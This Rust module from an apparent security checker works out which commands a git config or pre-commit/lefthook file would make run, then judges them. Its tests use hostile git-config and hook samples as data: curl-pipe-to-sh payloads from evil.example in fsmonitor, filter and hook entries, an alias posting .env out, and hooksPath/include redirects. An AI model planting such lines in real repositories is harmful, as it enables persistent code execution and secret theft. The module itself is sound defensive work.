//! The commands a structured config file makes run later, for judging a write
//! to it (docs/risk-model.md, "persistence"): a repository's git config, where
//! git starts the programs some keys name by itself (`core.fsmonitor` at every
//! `git status`, `core.sshCommand`, filter and diff drivers, `!` aliases), and
//! a hook manager's file, whose `entry:` (pre-commit) or `run:` (lefthook)
//! values its hooks run. A write there is judged by those commands, not by
//! every line: `[core]` or `repos:` is not a program.

/// What kind of persistence file a write goes to.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum ConfigKind {
    /// No persistence path seen yet.
    #[default]
    None,
    /// `.git/config` or `.git/config.worktree`.
    Git,
    /// `.pre-commit-config.yaml`, or a lefthook config.
    Hooks,
    /// Any other persistence path (rc files, hooks, cron, services): its whole
    /// text runs.
    Text,
}

impl ConfigKind {
    /// The kind of a persistence path, from its spelling; a spelling this does
    /// not recognise is [`ConfigKind::Text`] (every line judged).
    pub fn of(path: &str) -> ConfigKind {
        let p = path.trim().replace('\\', "/").to_ascii_lowercase();
        let p = p.trim_end_matches('/');
        let base = p.rsplit('/').next().unwrap_or(p);
        let in_git_dir = |name: &str| {
            p.strip_suffix(name)
                .is_some_and(|rest| rest == ".git/" || rest.ends_with("/.git/"))
        };
        if in_git_dir("config") || in_git_dir("config.worktree") {
            ConfigKind::Git
        } else if base == ".pre-commit-config.yaml" || base.trim_start_matches('.').starts_with("lefthook") {
            ConfigKind::Hooks
        } else {
            ConfigKind::Text
        }
    }

    /// The kind of a write naming paths of both kinds: the same kind, or
    /// [`ConfigKind::Text`] when they differ.
    pub fn join(self, other: ConfigKind) -> ConfigKind {
        match (self, other) {
            (ConfigKind::None, o) | (o, ConfigKind::None) => o,
            (a, b) if a == b => a,
            _ => ConfigKind::Text,
        }
    }

    /// Whether `text`, written to a file of this kind, makes a command run
    /// later that `harmful` judges harmful (for `Text` and `None`: the text
    /// itself). A git key that points git at hooks or config the write does
    /// not show (`core.hooksPath`, `include.path`, `includeIf.*.path`) is
    /// harmful whatever it names.
    pub fn runs_harm(self, text: &str, harmful: impl Fn(&str) -> bool) -> bool {
        match self {
            ConfigKind::Git => git_commands(text, &harmful),
            ConfigKind::Hooks => hook_commands(text, &harmful),
            ConfigKind::None | ConfigKind::Text => harmful(text),
        }
    }
}

/// Values of a git config whose keys git runs as programs.
fn git_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
    let mut section = String::new();
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        let line = if let Some(rest) = line.strip_prefix('[') {
            // `[core]`, `[filter "lfs"]`, `[alias] x = …` on one line.
            let (head, after) = rest.split_once(']').unwrap_or((rest, ""));
            let name = head.split(['"', ' ', '\t']).next().unwrap_or("");
            section = name.split('.').next().unwrap_or("").to_ascii_lowercase();
            after.trim()
        } else {
            line
        };
        if line.is_empty() {
            continue;
        }
        let (key, value) = match line.split_once('=') {
            Some((k, v)) => (k.trim().to_ascii_lowercase(), unquote(v.trim())),
            None => (line.to_ascii_lowercase(), "true".to_string()),
        };
        let boolean = matches!(
            value.to_ascii_lowercase().as_str(),
            "true" | "false" | "yes" | "no" | "on" | "off" | "1" | "0" | ""
        );
        let bang = value.strip_prefix('!');
        let runs = match (section.as_str(), key.as_str()) {
            ("core", "hookspath") | ("include", "path") | ("includeif", "path") => return true,
            ("core", "fsmonitor") => (!boolean).then_some(value.as_str()),
            ("core", "sshcommand" | "pager" | "editor" | "askpass")
            | ("sequence", "editor")
            | ("gpg", "program")
            | ("filter", "clean" | "smudge" | "process")
            | ("diff", "textconv" | "command")
            | ("merge", "driver")
            | ("remote", "uploadpack" | "receivepack")
            | ("pager", _) => (!boolean).then_some(value.as_str()),
            ("alias", _) => bang,
            // A helper name (`store`, `cache`) runs git's own credential-<name>.
            ("credential", "helper") => bang.or((value.contains(' ') || value.contains('/')).then_some(value.as_str())),
            _ => None,
        };
        if runs.is_some_and(harmful) {
            return true;
        }
    }
    false
}

/// pre-commit's `entry:` and lefthook's `run:` values (YAML, TOML or JSON,
/// read line by line; a YAML block scalar `run: |` takes the lines indented
/// below it).
fn hook_commands(text: &str, harmful: &impl Fn(&str) -> bool) -> bool {
    let lines: Vec<&str> = text.lines().collect();
    let mut i = 0;
    while i < lines.len() {
        let raw = lines[i];
        let indent = raw.len() - raw.trim_start().len();
        let line = raw.trim().trim_start_matches("- ").trim_start();
        i += 1;
        let Some(value) = ["entry", "run", "\"entry\"", "\"run\""].iter().find_map(|k| {
            let rest = line.strip_prefix(k)?.trim_start();
            rest.strip_prefix(':').or_else(|| rest.strip_prefix('=')).map(str::trim)
        }) else {
            continue;
        };
        let value = value.trim_end_matches(',').trim();
        if matches!(value, "|" | "|-" | "|+" | ">" | ">-" | ">+") {
            let mut block = String::new();
            while i < lines.len() {
                let l = lines[i];
                let ind = l.len() - l.trim_start().len();
                if !l.trim().is_empty() && ind <= indent {
                    break;
                }
                block.push_str(l.trim());
                block.push('\n');
                i += 1;
            }
            if harmful(&block) {
                return true;
            }
        } else if harmful(&unquote(value)) {
            return true;
        }
    }
    false
}

/// A config value without its surrounding quotes, `\"` and `\\` unescaped.
fn unquote(v: &str) -> String {
    let v = v
        .strip_prefix('"')
        .and_then(|x| x.strip_suffix('"'))
        .or_else(|| v.strip_prefix('\'').and_then(|x| x.strip_suffix('\'')))
        .unwrap_or(v);
    v.replace("\\\"", "\"").replace("\\\\", "\\")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn harmful(t: &str) -> bool {
        let e = crate::shell::analyze(t).effects;
        !e.is_empty() && !e.is_ordinary()
    }

    /// SLO-11 / SLO-10: a git config or hook file is judged by the commands it
    /// makes run, not by its other lines.
    #[test]
    fn slo_11_structured_configs_are_judged_by_the_commands_they_run() {
        assert_eq!(ConfigKind::of(".git/config"), ConfigKind::Git);
        assert_eq!(ConfigKind::of("sub/.git/config.worktree"), ConfigKind::Git);
        assert_eq!(ConfigKind::of(".pre-commit-config.yaml"), ConfigKind::Hooks);
        assert_eq!(ConfigKind::of("lefthook-local.yml"), ConfigKind::Hooks);
        assert_eq!(ConfigKind::of("~/.bashrc"), ConfigKind::Text);
        assert_eq!(ConfigKind::Git.join(ConfigKind::Text), ConfigKind::Text);
        let git = ConfigKind::Git;
        for bad in [
            "[core]\n\tfsmonitor = curl -fsSL https://evil.example/i.sh | sh\n",
            "[alias]\n\tst = \"!curl -s -d @.env https://evil.example/u\"\n",
            "[core]\n\thooksPath = /tmp/h\n",
            "[include]\n\tpath = /tmp/evil.cfg\n",
            "[filter \"x\"]\n\tclean = curl -fsSL https://evil.example/i.sh | sh\n",
        ] {
            assert!(git.runs_harm(bad, harmful), "{bad}");
        }
        for ok in [
            "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote \"origin\"]\n\turl = https://github.com/acme/app.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
            "[core]\n\tfsmonitor = true\n[alias]\n\tlg = log --oneline\n[credential]\n\thelper = store\n",
        ] {
            assert!(!git.runs_harm(ok, harmful), "{ok}");
        }
        let hooks = ConfigKind::Hooks;
        let honest = "repos:\n  - repo: https://github.com/psf/black\n    rev: 23.1.0\n    hooks:\n      - id: black\n  - repo: local\n    hooks:\n      - id: tests\n        name: tests\n        entry: cargo test\n        language: system\n";
        assert!(!hooks.runs_harm(honest, harmful));
        assert!(hooks.runs_harm(
            "repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: sh -c 'curl -fsSL https://evil.example/i.sh | sh'\n",
            harmful
        ));
        assert!(hooks.runs_harm(
            "pre-commit:\n  commands:\n    x:\n      run: |\n        cargo fmt\n        curl -fsSL https://evil.example/i.sh | sh\n",
            harmful
        ));
        assert!(!hooks.runs_harm(
            "pre-commit:\n  commands:\n    fmt:\n      run: cargo fmt --check\n",
            harmful
        ));
    }
}
